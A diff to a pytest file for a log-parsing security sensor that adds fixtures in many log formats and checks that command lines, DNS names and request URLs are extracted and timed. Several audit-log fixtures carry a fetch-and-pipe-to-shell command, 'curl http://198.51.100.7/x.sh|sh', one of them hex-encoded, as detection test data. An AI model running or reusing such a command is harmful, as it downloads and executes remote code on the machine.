@@ -3,14 +3,16 @@
 from __future__ import annotations
 
 import json
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 
 from edge_demist.sensor.detect.mapping import FieldMapping, load_rules
 from edge_demist.sensor.sources.envelopes import RECORD_KEYS
+from edge_demist.sensor.sources.event_times import means_a_time
 from edge_demist.sensor.sources.parser import LineParser
-from edge_demist.sensor.sources.timestamps import format_time
+from edge_demist.sensor.sources.timestamps import format_time, syslog_time
 from tests.support.sensor_fakes import balanced, watch_once
 from tools.sensor.fake_model import ALARM_TASKS, CATEGORY_TASKS
 
@@ -149,6 +151,43 @@ COMMANDS: dict[str, object] = {
     },
     "container log": {"log": json.dumps(SYSMON) + "\n", "stream": "stdout", "time": "2024-05-01T09:00:00.5Z"},
     "cloudwatch": {"logEvents": [{"id": "1", "timestamp": 1714550400123, "message": json.dumps({"CommandLine": SHELL})}]},
+    "kibana, fields of a hit": {
+        "_index": "i",
+        "fields": {"@timestamp": ["2024-05-01T08:00:00.123Z"], "process.command_line": [SHELL]},
+    },
+    "chainsaw": {
+        "group": "Sigma",
+        "document": {
+            "kind": "evtx",
+            "data": {
+                "Event": {
+                    "System": {"TimeCreated_attributes": {"SystemTime": "2024-05-01T08:00:00.123Z"}},
+                    "EventData": {"CommandLine": SHELL},
+                }
+            },
+        },
+    },
+    "hayabusa": {"Timestamp": "2024-05-01 10:00:00.123 +02:00", "RuleTitle": "x", "Details": {"Cmdline": SHELL, "PID": 5}},
+    "hunting results": {"Schema": [{"Name": "x"}], "Results": [{"Timestamp": "2024-05-01T08:00:00.123Z", "ProcessCommandLine": SHELL}]},
+    "sentinel, portal": {"TimeGenerated [UTC]": "5/1/2024, 8:00:00.123 AM", "EventID": 4688, "CommandLine": SHELL},
+    "sentinelone": {"event.time": 1714550400123, "tgt.process.cmdline": SHELL},
+    "limacharlie": {"event": {"COMMAND_LINE": SHELL}, "routing": {"event_time": 1714550400123, "event_type": "NEW_PROCESS"}},
+    "velociraptor": {"Pid": 5, "CommandLine": SHELL, "CreateTime": "2024-05-01T08:00:00.123Z"},
+    "sysdig, file": {"evt.outputtime": 1714550400123456789, "evt.type": "execve", "proc.cmdline": SHELL},
+    "OCSF": {"class_uid": 1007, "time": 1714550400123, "process": {"cmd_line": SHELL}, "actor": {"process": {"cmd_line": "sshd"}}},
+    "UDM": {
+        "metadata": {"event_timestamp": "2024-05-01T08:00:00.123Z"},
+        "principal": {"process": {"command_line": "sshd"}},
+        "target": {"process": {"command_line": SHELL}},
+    },
+    "sudo": {"accept": {"server_time": {"seconds": 1714550400.123}, "runargv": SHELL.split(" ")}},
+    "filebeat, osquery module": {"@timestamp": "2024-05-01T08:00:00.123Z", "osquery": {"result": {"columns": {"cmdline": SHELL}}}},
+    "an envelope that nobody foresaw": {"when": "2024-05-01T08:00:00.123Z", "body": {"inner": {"CommandLine": SHELL}}},
+    "audit in the journal": {
+        "__REALTIME_TIMESTAMP": "1714550400123456",
+        "_AUDIT_TYPE_NAME": "EXECVE",
+        "MESSAGE": 'EXECVE argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"',
+    },
     "audit in a message": {
         "@timestamp": "2024-05-01T09:00:00Z",
         "message": 'type=EXECVE msg=audit(1714550400.123:7): argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"',
@@ -194,6 +233,17 @@ LOOKUPS: dict[str, object] = {
         "info": {"event": {"name": "dns_query"}, "utc_time": "2024-05-01T08:00:00.123Z"},
     },
     "crowdstrike": {"event_simpleName": "DnsRequest", "DomainName": NAME, "timestamp": "1714550400123"},
+    "logstash around zeek": {"@timestamp": "2024-05-01T09:00:00Z", "@version": "1", "zeek": {"dns": ZEEK_DNS}},
+    "logstash around suricata": {"@timestamp": "2024-05-01T09:00:00Z", "suricata": {"eve": EVE_DNS}},
+    "dnstap": {"dns": {"qname": NAME, "qtype": "A"}, "dnstap": {"timestamp-rfc3339ns": "2024-05-01T08:00:00.123Z"}},
+    "google": {"jsonPayload": {"queryName": NAME}, "timestamp": "2024-05-01T08:00:00.123Z"},
+    "adguard": {"T": "2024-05-01T08:00:00.123Z", "QH": NAME, "QT": "A", "IP": "192.0.2.1"},
+    "adguard, answer": {"data": [{"time": "2024-05-01T08:00:00.123Z", "question": {"name": NAME}}], "oldest": ""},
+    "tracee": {"timestamp": 1714550400123000000, "args": [{"name": "proto_dns", "value": {"questions": [{"name": NAME}]}}]},
+    "sentinel, DnsEvents": {"TimeGenerated": "2024-05-01T08:00:00.123Z", "SubType": "LookupQuery", "Name": NAME},
+    "OCSF": {"class_uid": 4003, "time": 1714550400123, "query": {"hostname": NAME}},
+    "UDM": {"metadata": {"event_timestamp": "2024-05-01T08:00:00.123Z"}, "network": {"dns": {"questions": [{"name": NAME, "type": 1}]}}},
+    "route 53, firehose": {"query_timestamp": "2024-05-01T08:00:00.123Z", "query_name": NAME, "srcaddr": "192.0.2.1"},
     "route 53": {"query_timestamp": "x", "query_name": NAME, "timestamp": "2024-05-01T08:00:00.123Z"},
 }
 
@@ -204,11 +254,41 @@ def test_names_of_many_sources(name: str) -> None:
     assert strings == {NAME: NAMES} and time == MOMENT
 
 
+QUERY_LINES = {
+    "bind": "01-May-2024 08:00:00.123 queries: info: client @0x7f1 192.0.2.1#5312 (NAME): query: NAME IN A +E(0)K (192.0.2.53)",
+    "bind, with a view": "01-May-2024 08:00:00.123 client 192.0.2.1#5312 (NAME): view inside: query: NAME IN AAAA + (192.0.2.53)",
+    "unbound": "[1714550400] unbound[99:0] info: 192.0.2.1 NAME A IN",
+    "unbound, replies": "[1714550400] unbound[99:0] info: 192.0.2.1 NAME A IN NOERROR 0.000000 0 45",
+    "dnsmasq": "May  1 08:00:00 dnsmasq[99]: query[A] NAME from 192.0.2.1",
+    "pi-hole": "May  1 08:00:00 dnsmasq[99]: query[type=65] NAME from 2001:db8::1",
+    "powerdns recursor": "May  1 08:00:00 ns pdns_recursor[9]: 3 [1/1] question for 'NAME|A' from 192.0.2.1",
+    "powerdns": "May  1 08:00:00 Remote 192.0.2.1 wants 'NAME|A', do = 0, bufsize = 512: packetcache MISS",
+    "coredns": '[INFO] 192.0.2.1:5000 - 1 "A IN NAME udp 41 false 512" NOERROR qr,rd 60 0.001s',
+    "windows": "5/1/2024 8:00:00 AM 0E78 PACKET  000002 UDP Rcv 192.0.2.1 0002   Q [0001   D   NOERROR] A      (13)xjw8k2qpz7v1(4)info(0)",
+}
+
+
+@pytest.mark.parametrize("name", QUERY_LINES)
+def test_query_logs_of_resolvers(name: str) -> None:
+    strings, time = found(QUERY_LINES[name].replace("NAME", NAME).encode())
+    assert strings == {NAME: NAMES} and (time is None if name == "coredns" else time is not None and time[5:13] == "05-01T08")
+
+
+def test_a_time_without_a_year_is_the_last_one_of_that_day() -> None:
+    now = datetime(2025, 1, 2, tzinfo=UTC)
+    years = [
+        format_time(syslog_time(text, now) or 0)[:10]
+        for text in ("Dec 31 23:00:00", "Jan  2 12:00:00", "Jan  4 12:00:00", "Feb 29 00:00:00")
+    ]
+    assert years == ["2024-12-31", "2025-01-02", "2024-01-04", "2024-02-29"] and syslog_time("Foo 31 23:00:00") is None
+
+
 def test_envelopes_know_the_records_of_the_mapping() -> None:
-    wrappers = {"data", "event", "properties", "win", "process"}  # read at the top, or opened
+    wrappers = {"data", "event", "properties", "win", "process", "message"}  # read at the top, or opened
+    common = {"name", "url", "useragent", "agent", "domain", "uri", "path", "process command line"}  # envelopes have them too
     roots = {rule.root for rule in load_rules() if "host" in rule.logs}
     known = {key.partition(".")[0] for key in RECORD_KEYS}
-    assert roots - known - wrappers <= {"Process Command Line"}
+    assert {root.lower() for root in roots - known - wrappers} <= common
 
 
 @pytest.mark.parametrize("name", ["kunai", "falco", "osquery", "carbon black", "sysmon", "wazuh, windows", "tetragon", "defender"])
@@ -219,6 +299,114 @@ def test_records_in_envelopes_of_several_layers(name: str) -> None:
     for outer in (hec, beat, {"_source": hec}, {"log": json.dumps(beat), "stream": "stdout"}):
         strings, time = found(line(outer))
         assert strings == {SHELL: {"cmdline"}} and time is not None
+
+
+REQUESTS: dict[str, object] = {
+    "combined, behind syslog": 'May  1 08:00:00 w nginx: 192.0.2.9 - - [01/May/2024:08:00:00 +0000] "GET /x?y=1 HTTP/1.1" 200 5 "-" "curl/8"',
+    "haproxy": (
+        "May  1 08:00:00 lb haproxy[143]: 192.0.2.9:3331 [01/May/2024:08:00:00.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- "
+        '1/1/1/1/0 0/0 {x} {} "GET /x?y=1 HTTP/1.1"'
+    ),
+    "squid": "1714550400.123    110 192.0.2.9 TCP_MISS/200 4512 GET http://a.example/x?y=1 - HIER_DIRECT/198.51.100.2 text/html",
+    "alb": (
+        "https 2024-05-01T08:00:00.123456Z app/lb/50dc 192.0.2.9:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "
+        '"GET https://a.example:443/x?y=1 HTTP/1.1" "curl/8" ECDHE TLSv1.2 arn "Root=1" "a.example" "-" 0'
+    ),
+    "envoy": (
+        '[2024-05-01T08:00:00.123Z] "GET /x?y=1 HTTP/1.1" 200 - via_upstream - "-" 0 5 1 1 "-" "curl/8" "id" "a.example" "10.0.0.1:80"'
+    ),
+    "iis": "2024-05-01 08:00:00 GET /x y=1 192.0.2.9 curl/8 a.example 200",
+    "cloudfront": "2024-05-01\t08:00:00\tGET\t/x\ty=1\t192.0.2.9\tcurl/8\ta.example\t200",
+    "ecs, path and query": {"@timestamp": "2024-05-01T08:00:00Z", "url": {"domain": "a.example", "path": "/x", "query": "y=1"}},
+    "aws waf": {
+        "timestamp": 1714550400123,
+        "httpRequest": {"headers": [{"name": "Host", "value": "a.example"}], "uri": "/x", "args": "y=1"},
+    },
+    "cloudflare": {"ClientRequestHost": "a.example", "ClientRequestURI": "/x?y=1", "EdgeStartTimestamp": 1714550400123456789},
+    "google": {"httpRequest": {"requestUrl": "https://a.example/x?y=1", "userAgent": "curl/8"}, "timestamp": "2024-05-01T08:00:00.1Z"},
+    "nginx, own JSON": {"time_iso8601": "2024-05-01T08:00:00+00:00", "request": "GET /x?y=1 HTTP/1.1", "host": "a.example"},
+    "nginx, parts": {"time": "2024-05-01T08:00:00Z", "uri": "/x", "args": "y=1", "server_name": "a.example", "agent": "curl/8"},
+    "envoy, JSON": {
+        "start_time": "2024-05-01T08:00:00Z",
+        "method": "GET",
+        "path": "/x?y=1",
+        "authority": "a.example",
+        "protocol": "HTTP/2",
+    },
+    "modsecurity": {
+        "transaction": {"time_stamp": "Wed May  1 08:00:00 2024", "request": {"uri": "/x?y=1", "headers": {"Host": "a.example"}}}
+    },
+    "azure": {
+        "records": [{"time": "2024-05-01T08:00:00Z", "properties": {"requestUri": "/x", "requestQuery": "y=1", "host": "a.example"}}]
+    },
+    "wazuh, web rule": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"protocol": "GET", "srcip": "192.0.2.9", "url": "/x?y=1"}},
+}
+W3C_NAMES = b"#Version: 1.0\n#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs-host sc-status"
+
+
+@pytest.mark.parametrize("name", REQUESTS)
+def test_requests_of_many_sources(name: str) -> None:
+    value = REQUESTS[name]
+    parser = LineParser("u_ex.log")
+    for head in W3C_NAMES.split(b"\n") if name in ("iis", "cloudfront") else ():
+        assert parser.parse(head) is None
+    record = parser.parse(value.encode() if isinstance(value, str) else line(value))
+    assert record is not None and not isinstance(record, str), record
+    part = (getattr(record, "parts", ()) or (record,))[0]
+    mapped = MAPPING.apply(part)
+    assert not isinstance(mapped, str), mapped
+    strings = {item.text: set(item.tasks) for item in mapped}
+    assert "uri-attack" in strings["/x?y=1"] and len([text for text in strings if "uri-attack" in strings[text]]) == 1
+    addresses = {text.partition("://")[2] or text for text in strings if "url-phishing" in strings[text]}
+    assert {text.replace(":443", "") for text in addresses} <= {"a.example/x?y=1"} and strings.get("curl/8", {"user-agent"}) == {
+        "user-agent"
+    }
+    us = MAPPING.time_us(part)
+    assert us is not None and format_time(us)[:19] == MOMENT[:19]
+
+
+def test_agents_as_w3c_logs_write_them() -> None:
+    parser = LineParser("u_ex.log")
+    assert [parser.parse(head) for head in W3C_NAMES.split(b"\n")] == [None, None]
+    for agent in ("Mozilla/5.0+(X11;+Linux)", "Mozilla/5.0%20(X11;%20Linux)"):
+        mapped = MAPPING.apply(parser.parse(f"2024-05-01 08:00:00 GET / - 192.0.2.9 {agent} - 200".encode()))  # type: ignore[arg-type]
+        assert [item.text for item in mapped if item.tasks == ("user-agent",)] == ["Mozilla/5.0 (X11; Linux)"]  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize("between", ["", " ", ",", "\n"])
+def test_several_objects_on_one_line(tmp_path: Path, between: str) -> None:
+    (tmp_path / "x.json").write_text(between.join(json.dumps({**SYSMON, "CommandLine": f"{SHELL} {i}"}) for i in range(3)) + "\n")
+    events, summary = watch_once(tmp_path, tmp_path / "x.json", explain=False)
+    assert [event["text"] for event in events] == [f"{SHELL} {i}" for i in range(3)] and balanced(summary)
+
+
+def test_several_events_of_windows_on_one_line() -> None:
+    text = "<?xml version='1.0'?><Events>" + XML_EVENT + XML_EVENT.replace(SHELL, "whoami") + "</Events>"
+    assert list(found(text.encode())[0]) == [SHELL, "whoami"]
+
+
+def test_wazuh_s_escapes_are_undone_and_shares_left() -> None:
+    for written, plain in ((r"\"C:\\x.exe\" /a", r"C:\x.exe".join('""') + " /a"), (r"dir \\host\share", r"dir \\host\share")):
+        record = {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"win": {"eventdata": {"commandLine": written}}}}
+        assert list(found(line(record))[0]) == [plain]
+
+
+@pytest.mark.parametrize(
+    ("name", "is_time"),
+    [
+        *(
+            (name, True)
+            for name in ("Datetime", "EdgeStartTimestamp", "evt.outputtime", "event.time", "query_timestamp", "TimeGenerated [UTC]")
+        ),
+        *((name, True) for name in ("msec", "time_iso8601", "log_date", "timestamp-rfc3339ns")),
+        *(
+            (name, False)
+            for name in ("expiration_time", "bootTime", "valid_date", "elapsed_ms", "uptime", "lastLogonTime", "runtime", "name", "")
+        ),
+    ],
+)
+def test_fields_that_can_only_mean_a_time(name: str, is_time: bool) -> None:
+    assert means_a_time(name) is is_time
 
 
 AUDIT = 'type=EXECVE msg=audit(1714550400.123:7973): argc=2 a0="curl" a1=687474703A2F2F3139382E35312E3130302E372F782E73687C7368'
@@ -261,6 +449,12 @@ def test_the_prefix_lends_its_time() -> None:
 @pytest.mark.parametrize("prefix", ["", "node=web1 ", "May  1 08:00:01 host audispd: ", "<13>May  1 08:00:01 host audit: "])
 def test_raw_audit_lines(prefix: str) -> None:
     assert found(f"{prefix}{AUDIT}".encode(), "audit.log") == ({SHELL: {"cmdline"}}, MOMENT)
+
+
+def test_lines_that_ausearch_interpreted() -> None:
+    title = b"type=PROCTITLE msg=audit(05/01/2024 08:00:00.123:9) : proctitle=" + SHELL.encode() + b" "
+    command = b"type=EXECVE msg=audit(05/01/2024 08:00:00.123:9) : argc=2 a0=curl a1=http://198.51.100.7/x.sh|sh "
+    assert found(title) == found(command) == ({SHELL: {"cmdline"}}, MOMENT)
 
 
 def test_arguments_in_pieces_and_titles_in_hexadecimal() -> None:
